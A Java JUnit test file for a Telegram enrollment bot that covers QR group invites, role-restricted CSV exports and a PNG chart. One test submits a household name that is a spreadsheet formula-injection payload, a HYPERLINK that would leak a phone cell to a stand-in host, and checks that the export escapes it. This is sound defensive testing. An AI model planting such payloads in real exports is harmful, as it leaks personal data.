package org.danvan.enrollment;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;

import com.google.zxing.BinaryBitmap;
import com.google.zxing.client.j2se.BufferedImageLuminanceSource;
import com.google.zxing.common.HybridBinarizer;
import com.google.zxing.qrcode.QRCodeReader;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import org.danvan.shared.Role;
import org.danvan.sandbox.botapi.BotMessage;
import org.danvan.sandbox.botapi.BotApiStandIn;
import org.danvan.sandbox.botapi.StandInUser;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What coordinators take away: the CSV files (UTF-8 with BOM, phones for coordinators
 * only), the chart as a PNG, and a group's QR invite that opens enrollment into the
 * group.
 */
class EnrollmentFilesTest extends EnrollmentEndToEndTest {

	@Test
	void theInviteQrCodeOpensEnrollmentStraightIntoTheGroup() throws Exception {
		StandInUser coordinator = member(Role.COORDINATOR, "kg-tkh");
		String code = createGroup(coordinator, "Khanh Hoa", "Khánh Hòa tổ 3");
		coordinator.press(coordinator.awaitText("Group Khánh Hòa tổ 3 ·"), "Invite (QR)");
		BotMessage qr = coordinator.await((m) -> m.media() != null && m.media().startsWith("photo:group-"), "the QR");
		String link = "https://t.me/" + BotApiStandIn.BOT_USERNAME + "?start=grp-" + code;
		assertThat(decodeQr(telegram.file(qr).bytes())).isEqualTo(link);
		assertThat(coordinator.awaitText("print this code").text()).contains(link);

		StandInUser villager = villager("Minh", null);
		villager.send("/start grp-" + code);
		villager.awaitText("You are joining the group Khánh Hòa tổ 3 of Khanh Hoa");
		villager.send("Đặng Văn Minh");
		villager.press(villager.awaitText("How many people live"), "3");
		villager.tapKey("Skip");
		BotMessage summary = villager.awaitText("Please check:");
		assertThat(summary.text()).contains("Village: Khanh Hoa", "Group: Khánh Hòa tổ 3", "Phone: not given");
		villager.press(summary, "I agree, send");
		villager.awaitText("Sent.");
		assertThat(this.enrollment.household(villager.id()).orElseThrow().groupId()).isEqualTo(code);

		villager.send("/start grp-nosuchgroup");
		villager.awaitText("This group invite is not valid");
	}

	@Test
	void theCsvFilesAreUtf8WithBomAndShowPhonesToCoordinatorsOnly() throws Exception {
		StandInUser coordinator = member(Role.COORDINATOR, "kg-pm");
		createGroup(coordinator, "Tra Pho", "Trà Phố Đoàn Kết");
		StandInUser villager = villager("Bình", "kg-pm-tra-pho");
		enroll(villager, "Phạm Thị Bình", 7, "Trà Phố Đoàn Kết", "+84 913 000 404");
		coordinator.press(coordinator.awaitText("Head of household: Phạm Thị Bình"), "Approve");
		villager.awaitText("Good news");

		StandInUser prankster = villager("Tý", "kg-pm-tra-pho");
		enroll(prankster, "=HYPERLINK(\"http://x.example/?\"&H2,\"Open\")", 1, "Trà Phố Đoàn Kết", null);
		coordinator.press(coordinator.awaitText("Head of household: =HYPERLINK"), "Approve");
		prankster.awaitText("Good news");

		coordinator.send("/export enrollment");
		Map<String, byte[]> files = documents(coordinator, 2);
		byte[] households = files.get("households-kg-pm.csv");
		assertThat(households).startsWith(0xEF, 0xBB, 0xBF);
		List<CSVRecord> rows = csv(households);
		assertThat(rows.get(0).values()).containsExactly("Head of household", "People", "Village", "Group", "Status",
				"Asked on", "Decided on", "Phone");
		assertThat(rows).anySatisfy((row) -> assertThat(row.values())
			.startsWith("Phạm Thị Bình", "7", "Tra Pho", "Trà Phố Đoàn Kết", "approved")
			.endsWith("+84913000404"));
		assertThat(rows).anySatisfy((row) -> assertThat(row.get(0)).startsWith("'=HYPERLINK("));
		List<CSVRecord> groups = csv(files.get("groups-kg-pm.csv"));
		assertThat(groups)
			.anySatisfy((row) -> assertThat(row.values()).startsWith("Trà Phố Đoàn Kết").contains("Tra Pho", "2", "8"));

		StandInUser officer = member(Role.OFFICER, "kg-pm");
		officer.send("/export enrollment");
		List<CSVRecord> seenByOfficer = csv(documents(officer, 2).get("households-kg-pm.csv"));
		assertThat(seenByOfficer.get(0).values()).doesNotContain("Phone");
		assertThat(seenByOfficer).anySatisfy((row) -> assertThat(row.values()).startsWith("Phạm Thị Bình"))
			.noneSatisfy((row) -> assertThat(String.join(",", row.values())).contains("+84913000404"));

		villager.send("/export enrollment");
		villager.awaitText("only a member with the coordinator role");

		long officeChat = -1_001_600L;
		coordinator.addBotToGroup(officeChat, "Commune office");
		coordinator.sendCommandInGroup(officeChat, "/export enrollment");
		StandInUser.awaitTrue(
				() -> telegram.messages(officeChat)
					.stream()
					.anyMatch((m) -> m.text().contains("Please ask me this in your private chat")),
				"the refusal in the group");
		assertThat(telegram.messages(officeChat)).noneMatch((m) -> m.media() != null);
	}

	@Test
	void theChartIsAPngWithABarPairPerVillage() throws Exception {
		StandInUser coordinator = member(Role.COORDINATOR, "kg-vd");
		coordinator.send("/enrollment");
		coordinator.press(coordinator.awaitText("Vinh Dieu\n"), "Chart");
		BotMessage chart = coordinator.await((m) -> m.media() != null && m.media().equals("photo:enrollment-kg-vd.png"),
				"the chart");
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(telegram.file(chart).bytes()));
		assertThat(image.getWidth()).isEqualTo(900);
		assertThat(coordinator.awaitText("Enrollment in Vinh Dieu").text()).contains("2 of 2 villages");
	}

	private static Map<String, byte[]> documents(StandInUser user, int count) {
		StandInUser.awaitTrue(() -> user.messages().stream().filter(EnrollmentFilesTest::isDocument).count() >= count,
				count + " documents");
		Map<String, byte[]> files = new java.util.HashMap<>();
		user.messages()
			.stream()
			.filter(EnrollmentFilesTest::isDocument)
			.forEach((m) -> files.put(m.media().substring("document:".length()), telegram.file(m).bytes()));
		return files;
	}

	private static boolean isDocument(BotMessage message) {
		return message.media() != null && message.media().startsWith("document:");
	}

	private static List<CSVRecord> csv(byte[] bytes) throws IOException {
		String text = new String(bytes, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		return CSVFormat.DEFAULT
			.parse(new InputStreamReader(new ByteArrayInputStream(text.substring(1).getBytes(StandardCharsets.UTF_8)),
					StandardCharsets.UTF_8))
			.getRecords();
	}

	private static String decodeQr(byte[] png) throws Exception {
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(png));
		return new QRCodeReader().decode(new BinaryBitmap(new HybridBinarizer(new BufferedImageLuminanceSource(image))))
			.getText();
	}

}
